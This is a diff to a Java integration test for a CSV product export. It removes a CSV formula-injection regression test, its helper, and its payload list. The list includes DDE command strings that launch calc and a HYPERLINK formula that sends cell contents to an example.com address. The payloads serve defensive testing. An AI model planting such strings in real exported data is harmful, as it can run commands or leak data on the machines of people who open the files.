@@ -35,28 +35,6 @@ import java.util.List;
 import java.util.Map;
 
 class PostgresExportSourceIT {
-    private static final List<String> PAYLOADS =
-            List.of(
-                    "=1+1",
-                    "=HYPERLINK(\"https://example.com?x=\"&A1,\"click\")",
-                    "+cmd|' /C calc'!A0",
-                    "-2+3+cmd|' /C calc'!A0",
-                    "@SUM(1+1)*cmd|' /C calc'!A0",
-                    "\t=1+1",
-                    "\r=1+1",
-                    "\n=1+1",
-                    "＝1+1",
-                    "＋1",
-                    "－1",
-                    "＠SUM(A1)",
-                    "'=1+1",
-                    "''=1+1",
-                    "'",
-                    "'plain",
-                    "plain =1",
-                    " =1",
-                    "\"=1\",=2");
-
     private final Shop shop = Shop.open();
 
     @AfterEach
@@ -163,38 +141,6 @@ class PostgresExportSourceIT {
         assertThat(rows.subList(1, rows.size()))
                 .allSatisfy(row -> assertThat(row.get(1)).isEqualTo(expected.get(row.get(0))))
                 .hasSize(4);
-    }
-
-    @Test
-    void no_cell_makes_a_spreadsheet_compute_and_each_comes_back_as_it_was() {
-        List<Product> sent = new ArrayList<>();
-        for (int i = 0; i < PAYLOADS.size(); i++) {
-            sent.add(poisoned(i, PAYLOADS.get(i)));
-        }
-        shop.add(sent.toArray(Product[]::new));
-
-        List<List<String>> rows = shop.rows(products(Format.CSV));
-
-        List<String> heading = rows.getFirst();
-        assertThat(rows.stream().flatMap(List::stream))
-                .noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\n\\r＝＋－＠].*"));
-        for (int i = 0; i < PAYLOADS.size(); i++) {
-            List<String> row = rows.get(i + 1);
-            String payload = PAYLOADS.get(i);
-            assertThat(cell(heading, row, "title")).isEqualTo(payload);
-            assertThat(cell(heading, row, "description")).isEqualTo(payload);
-            assertThat(cell(heading, row, "vendor")).isEqualTo(payload);
-            assertThat(cell(heading, row, "option.size")).isEqualTo(payload);
-            assertThat(cell(heading, row, "attribute.material")).isEqualTo(payload);
-            assertThat(CsvText.entries(cell(heading, row, "tags"), ','))
-                    .containsExactly(payload, "other");
-            assertThat(CsvText.entries(cell(heading, row, "image.url"), ' '))
-                    .containsExactly(payload, "b");
-            assertThat(CsvText.entries(cell(heading, row, "image.alt"), '|'))
-                    .containsExactly(payload, "");
-            assertThat(cell(heading, row, "sku")).isEqualTo("-" + i);
-            assertThat(cell(heading, row, "handle")).isEqualTo("-" + i);
-        }
     }
 
     @Test
@@ -336,16 +282,6 @@ class PostgresExportSourceIT {
                 new Money(1234, Currency.getInstance(code)),
                 null,
                 null);
-    }
-
-    private static Product poisoned(int i, String payload) {
-        return new Product(
-                new Handle("-" + i),
-                new Copy(payload, payload, payload),
-                new Placement(List.of(payload), List.of(payload, "other"), ProductStatus.ACTIVE),
-                Map.of("material", payload),
-                List.of(new Image(payload, payload), new Image("b", "")),
-                List.of(variant("-" + i, Map.of("size", payload))));
     }
 
     private static Product tee() {
